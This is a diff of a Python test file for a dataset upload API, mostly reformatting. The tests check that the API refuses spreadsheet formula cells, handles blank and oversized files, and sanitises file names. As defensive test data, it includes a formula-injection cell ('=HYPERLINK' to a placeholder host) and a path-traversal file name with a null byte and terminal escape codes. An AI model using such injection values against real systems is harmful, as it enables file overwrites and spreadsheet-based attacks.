-                "'=SUM(A1)"]
+NOT_FORMULAS = [
+    "-5 stars, would not buy again",
+    "+1 for the battery",
+    "@bob thanks!",
+    "=) lovely",
+    "- meh (not great)",
+    "--- worst ever ---",
+    "email@example.com(x)",
+    "'=SUM(A1)",
+]
 
 
 @pytest.mark.parametrize("field", ["text", "text_pair", "label"])
@@ -534,21 +791,38 @@ def test_spreadsheet_formula_cells_are_refused(guard: Guard, field: str) -> None
     for cell in FORMULAS:
         bad = {"text": "fine", "text_pair": "fine", "label": "pos", field: cell}
         content = jsonl_bytes([*rows(3, text_pair="ok"), bad, *rows(2, text_pair="ok")])
-        guard.rejects("/v1/datasets", "d.jsonl", content, status=422, code="dataset_invalid",
-                      line=4, field=field, message="spreadsheet formula")
+        guard.rejects(
+            "/v1/datasets",
+            "d.jsonl",
+            content,
+            status=422,
+            code="dataset_invalid",
+            line=4,
+            field=field,
+            message="spreadsheet formula",
+        )
 
 
 def test_spreadsheet_formula_in_a_csv_cell_names_line_and_field(guard: Guard) -> None:
     content = csv_of(["text,label", "fine,pos", "ok,neg", '"=HYPERLINK(""http://x"")",pos'])
-    error = guard.rejects("/v1/datasets", "d.csv", content, status=422, code="dataset_invalid",
-                          line=4, field="text", message="spreadsheet formula")
+    error = guard.rejects(
+        "/v1/datasets",
+        "d.csv",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=4,
+        field="text",
+        message="spreadsheet formula",
+    )
     assert "apostrophe" in error["message"]
 
 
 def test_formula_check_is_linear_in_the_text_length(client: TestClient) -> None:
     """A backtracking rule would take minutes on one long "-aaaa…" text (found in review)."""
-    content = jsonl_bytes({"text": "-" + "a" * 99_000, "label": ("pos", "neg")[i % 2]}
-                          for i in range(4))
+    content = jsonl_bytes(
+        {"text": "-" + "a" * 99_000, "label": ("pos", "neg")[i % 2]} for i in range(4)
+    )
     started = time.monotonic()
     response = client.post("/v1/datasets", files={"file": ("d.jsonl", content)})
     assert response.status_code == 201, response.text
@@ -556,23 +830,36 @@ def test_formula_check_is_linear_in_the_text_length(client: TestClient) -> None:
 
 
 def test_text_that_only_starts_like_a_formula_is_accepted(client: TestClient) -> None:
-    content = jsonl_bytes([{"text": t, "label": ("pos", "neg")[i % 2]}
-                           for i, t in enumerate(NOT_FORMULAS)])
+    content = jsonl_bytes(
+        [{"text": t, "label": ("pos", "neg")[i % 2]} for i, t in enumerate(NOT_FORMULAS)]
+    )
     response = client.post("/v1/datasets", files={"file": ("d.jsonl", content)})
     assert response.status_code == 201, response.text
     assert response.json()["num_rows"] == len(NOT_FORMULAS)
 
 
-@pytest.mark.parametrize(("name", "content", "code", "field", "message"), [
-    ("e.jsonl", b"", "file_empty", "file", "empty"),
-    ("b.jsonl", b"\n\n   \n\t\n", "dataset_invalid", "file", "this one has 0"),
-    ("b.csv", b"\n\n\n", "dataset_invalid", "text", "no 'text' column"),
-])
-def test_empty_and_blank_files(guard: Guard, name: str, content: bytes, code: str, field: str,
-                               message: str) -> None:
+@pytest.mark.parametrize(
+    ("name", "content", "code", "field", "message"),
+    [
+        ("e.jsonl", b"", "file_empty", "file", "empty"),
+        ("b.jsonl", b"\n\n   \n\t\n", "dataset_invalid", "file", "this one has 0"),
+        ("b.csv", b"\n\n\n", "dataset_invalid", "text", "no 'text' column"),
+    ],
+)
+def test_empty_and_blank_files(
+    guard: Guard, name: str, content: bytes, code: str, field: str, message: str
+) -> None:
     line = 1 if name.endswith(".csv") else None
-    guard.rejects("/v1/datasets", name, content, status=422, code=code, line=line, field=field,
-                  message=message)
+    guard.rejects(
+        "/v1/datasets",
+        name,
+        content,
+        status=422,
+        code=code,
+        line=line,
+        field=field,
+        message=message,
+    )
 
 
 def _lower_upload_cap(guard: Guard, cap: int) -> None:
@@ -587,8 +874,14 @@ def test_file_over_the_upload_cap_is_413_and_leaves_no_temp_file(guard: Guard, u
     _lower_upload_cap(guard, 64 * 1024)
     content = jsonl_bytes(rows(20_000))
     assert len(content) > 4 * 64 * 1024
-    error = guard.rejects(url, "big.jsonl", content, status=413, code="file_too_large",
-                          message="larger than the 65536 byte limit")
+    error = guard.rejects(
+        url,
+        "big.jsonl",
+        content,
+        status=413,
+        code="file_too_large",
+        message="larger than the 65536 byte limit",
+    )
     assert error["field"] == "file"
 
 
@@ -621,12 +914,19 @@ def test_spool_stops_reading_at_the_cap(scratch: Path) -> None:
 
 def test_hostile_file_names_are_stored_as_a_plain_name(client: TestClient) -> None:
     boundary = "b0undary"
-    body = (f"--{boundary}\r\n"
+    body = (
+        (
+            f"--{boundary}\r\n"
             'Content-Disposition: form-data; name="file"; filename="../../etc/a\x00b\x1b[31m.jsonl"'
-            "\r\nContent-Type: application/octet-stream\r\n\r\n").encode() + jsonl_bytes(rows()) + (
-        f"\r\n--{boundary}--\r\n").encode()
-    response = client.post("/v1/datasets", content=body,
-                           headers={"content-type": f"multipart/form-data; boundary={boundary}"})
+            "\r\nContent-Type: application/octet-stream\r\n\r\n"
+        ).encode()
+        + jsonl_bytes(rows())
+        + (f"\r\n--{boundary}--\r\n").encode()
+    )
+    response = client.post(
+        "/v1/datasets",
+        content=body,
+        headers={"content-type": f"multipart/form-data; boundary={boundary}"},
+    )
     assert response.status_code == 201, response.text
     assert response.json()["filename"] == "ab[31m.jsonl"
-
